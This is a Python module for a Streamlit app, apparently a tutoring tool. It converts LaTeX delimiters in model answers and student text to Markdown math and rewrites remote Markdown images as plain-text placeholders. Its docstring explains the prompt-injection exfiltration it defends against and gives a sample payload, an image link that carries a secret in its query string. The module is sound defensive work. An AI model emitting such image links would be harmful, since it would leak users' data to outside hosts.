"""Markdown for st.markdown from text we do not control (model answers, lesson chunks, students' questions).

- The LaTeX delimiters \\( \\) and \\[ \\] become the $ and $$ that Streamlit renders.
- No image is ever loaded from a URL: an image in an answer is a classic way to send data out after a prompt
  injection (`![](http://host/?q=secret)` is fetched by the browser as soon as it is shown). Inline images with a
  non-`data:` URL become the plain text "[hình ảnh: host/…]"; any other image syntax (reference-style `![a][ref]`,
  `![a]`, forms the pattern does not parse) loses its `!` and is at most a link, which needs a click.
  Raw HTML (`<img>`) is already shown as text: no page lets st.markdown render HTML.
"""
from __future__ import annotations

import re
from urllib.parse import urlsplit

# A delimiter preceded by another backslash is not one: `\\[2pt]` is a LaTeX line break with spacing.
_DISPLAY = re.compile(r"(?<!\\)\\\[(.+?)(?<!\\)\\\]", re.DOTALL)
_INLINE = re.compile(r"(?<!\\)\\\((.+?)(?<!\\)\\\)", re.DOTALL)

# `![`, then, when it is a whole inline image, its alt text and destination: <url> or a url with balanced
# parentheses, and an optional title.
_IMAGE = re.compile(
    r"""!\[
        (?:(?P<alt>[^\[\]\n]*)\]\(\s*
            (?P<url><[^<>\n]*>|[^\s()<>]*(?:\([^\s()]*\)[^\s()<>]*)*)
            (?:\s+(?:"[^"\n]*"|'[^'\n]*'|\([^()\n]*\)))?
        \s*\))?""",
    re.VERBOSE,
)
_MARKDOWN_PUNCTUATION = re.compile(r"""([!"#$%&'()*+,\-./:;<=>?@\[\\\]^_`{|}~])""")
_IMAGE_LABEL = "hình ảnh"


def _escape(text: str) -> str:
    """Text that Markdown shows as written (every ASCII punctuation backslash-escaped)."""
    return _MARKDOWN_PUNCTUATION.sub(r"\\\1", text)


def image_placeholder(url: str) -> str:
    """What stands for an image that is not loaded: its host (or relative path), never the query that may carry data."""
    parts = urlsplit(url.strip())
    where = parts.netloc or parts.path.split("?")[0]
    more = "/…" if parts.netloc and (parts.path.strip("/") or parts.query) else ""
    return _escape(f"[{_IMAGE_LABEL}: {where}") + more + r"\]"


def _escaped(text: str, at: int) -> bool:
    """Whether the character at `at` is backslash-escaped (an odd number of backslashes right before it)."""
    start = at
    while start > 0 and text[start - 1] == "\\":
        start -= 1
    return (at - start) % 2 == 1


def _neutralise(match: re.Match[str]) -> str:
    url = match.group("url")
    if _escaped(match.string, match.start()):  # `\![`: not an image, already
        return match.group(0)
    if url is None:  # not an inline image we can read: escape its `!` so it cannot be an image at all
        return "\\" + match.group(0)
    url = url[1:-1] if url.startswith("<") else url
    if url.strip().lower().startswith("data:"):  # inside the page already: nothing is fetched
        return match.group(0)
    return image_placeholder(url)


def neutralise_images(text: str) -> str:
    """The text with no image that a browser would fetch from a URL (see the module's docstring)."""
    return _IMAGE.sub(_neutralise, text)


def latex_to_markdown(text: str) -> str:
    """`\\(x\\)` → `$x$`, `\\[x\\]` → `$$x$$`, images neutralised; a delimiter not closed yet (text still streaming) is left as written."""
    text = _DISPLAY.sub(lambda m: f"$${m.group(1).strip()}$$", text)
    text = _INLINE.sub(lambda m: f"${m.group(1).strip()}$", text)
    return neutralise_images(text)
